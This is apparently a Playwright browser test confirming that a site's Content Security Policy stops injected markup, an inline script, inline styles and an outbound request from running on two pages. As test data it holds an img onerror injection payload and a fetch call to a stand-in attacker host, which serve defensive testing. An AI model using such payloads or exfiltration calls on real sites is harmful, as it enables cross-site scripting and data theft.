"""The content security policy in a real browser: what is injected into the page does not run.

That the page itself does is in every other test, where a violation is an error in the console.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.browser.serving import Server

INJECT = """markup => {
  const place = document.createElement('div');
  place.innerHTML = markup;
  document.body.append(place);
}"""
SCRIPT = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.injected = true';
  document.body.append(script);
}"""


@pytest.fixture
def expected_noise() -> list[str]:
    return ["Content Security Policy"]


@pytest.mark.parametrize("path", ["/", "/docs"])
def test_what_is_injected_into_a_page_does_not_run(page: Page, server: Server, path: str) -> None:
    page.goto(server.url + path)

    page.evaluate(SCRIPT)
    page.evaluate(
        INJECT, "<img src=data:, onerror='window.injected = true'><p id=tinted style='color: rgb(1, 2, 3)'>a</p>"
    )
    told = page.evaluate("() => fetch('http://attacker.example/').then(() => 'sent', error => error.name)")

    expect(page.locator("#tinted")).not_to_have_css("color", "rgb(1, 2, 3)")
    assert page.evaluate("() => 'injected' in window") is False
    assert told == "TypeError"
